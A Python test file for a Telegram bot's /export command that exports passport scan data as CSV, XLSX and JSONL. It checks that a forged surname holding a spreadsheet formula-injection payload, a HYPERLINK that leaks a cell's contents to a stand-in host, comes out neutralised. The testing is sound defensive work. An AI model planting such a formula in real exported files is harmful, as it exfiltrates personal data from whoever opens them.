"""/export through the fake Bot API: the files sent are opened with csv, openpyxl and json."""

from __future__ import annotations

import csv
import io
import json

import openpyxl

from tests.bot.admin_fixtures import PASSPORT, admin_stack, command, passport_envelope, seed_scan
from tests.fakes.fixtures import StackFactory
from tests.fakes.stack import ADMIN, AGENT, OTHER_AGENT, Stack

__all__ = ["admin_stack"]

FORGED = '=HYPERLINK("http://example.invalid/?leak="&B2,"Voir")'


async def seed(stack: Stack) -> None:
    await seed_scan(stack.store, AGENT)
    forged = passport_envelope({**PASSPORT, "surname": FORGED})
    scan = await seed_scan(stack.store, OTHER_AGENT, forged)
    await stack.store.mark_reviewed(scan.id)


async def exported(stack: Stack, text: str) -> tuple[str, bytes, list[str]]:
    """Send an /export command; the file name, its bytes and the progress message's edits."""
    tg = stack.telegram
    before = len(tg.calls_to("sendDocument", ADMIN))
    tg.send_text(ADMIN, text)
    await tg.wait_for(
        lambda f: any(
            "Export prêt" in c.params["text"] for c in f.calls_to("editMessageText", ADMIN)
        )
    )
    [call] = tg.calls_to("sendDocument", ADMIN)[before:]
    edits = [c.params["text"] for c in tg.calls_to("editMessageText", ADMIN)]
    tg.calls.clear()
    return call.filenames["document"], call.files["document"], edits


async def test_csv_export_for_french_excel(admin_stack: StackFactory) -> None:
    async with admin_stack(reader=None) as stack:
        await seed(stack)
        name, data, edits = await exported(stack, "/export csv")
        assert name.startswith("papiers-all_") and name.endswith(".csv")
        assert data.startswith(b"\xef\xbb\xbf")
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
        assert [r["agent_id"] for r in rows] == [str(AGENT), str(OTHER_AGENT)]
        assert rows[0]["surname"] == "MARTIN" and rows[0]["surname_source"] == "mrz"
        assert rows[0]["reviewed"] == "False" and rows[1]["reviewed"] == "True"
        assert rows[1]["surname"] == "'" + FORGED  # the forged name cannot run as a formula
        assert edits[-1].startswith("✅ Export prêt : 2 scans")
        [entry] = await stack.store.list_audit()
        assert entry.action == "export" and entry.details["rows"] == 2
        assert entry.details["format"] == "csv"
        assert FORGED not in json.dumps(entry.details) and "MARTIN" not in json.dumps(entry.details)


async def test_xlsx_and_json_exports_filtered_by_type_and_dates(admin_stack: StackFactory) -> None:
    async with admin_stack(reader=None) as stack:
        await seed(stack)
        name, data, _ = await exported(stack, "/export xlsx 2020-01-01 2099-12-31 passeport")
        assert name == "papiers-2020-01-01_2099-12-31-passport.xlsx"
        sheet = openpyxl.load_workbook(io.BytesIO(data))["scans"]
        rows = list(sheet.iter_rows(values_only=True))
        head = list(rows[0])
        assert "personal_number_status" in head and "vin" not in head
        second = dict(zip(head, rows[2], strict=True))
        assert second["surname"] == "'" + FORGED and second["reviewed"] is True
        assert all(cell.data_type != "f" for line in sheet.iter_rows() for cell in line)

        name, data, _ = await exported(stack, "/export json")
        records = [json.loads(line) for line in data.decode().splitlines()]
        assert name.endswith(".jsonl") and len(records) == 2
        assert records[1]["result"]["fields"]["surname"]["value"] == FORGED
        assert records[1]["result"]["schema"] == "papiers.scan/1"

        _, data, edits = await exported(stack, "/export csv 2000-01-01 2001-01-01")
        assert data.decode("utf-8-sig").count("\r\n") == 1  # the header alone
        assert edits[-1].startswith("✅ Export prêt : 0 scans")


async def test_export_with_commas_and_bad_arguments(admin_stack: StackFactory) -> None:
    async with admin_stack(reader=None) as stack:
        await seed(stack)
        _, data, _ = await exported(stack, "/export csv virgule")
        assert data.decode("utf-8-sig").startswith("scan_id,document_type,")
        [usage] = await command(stack, ADMIN, "/export csv bateau")
        assert usage.startswith("Utilisation : /export")
        [usage] = await command(stack, ADMIN, "/export 2026-12-01 2026-11-01")
        assert usage.startswith("Utilisation : /export")
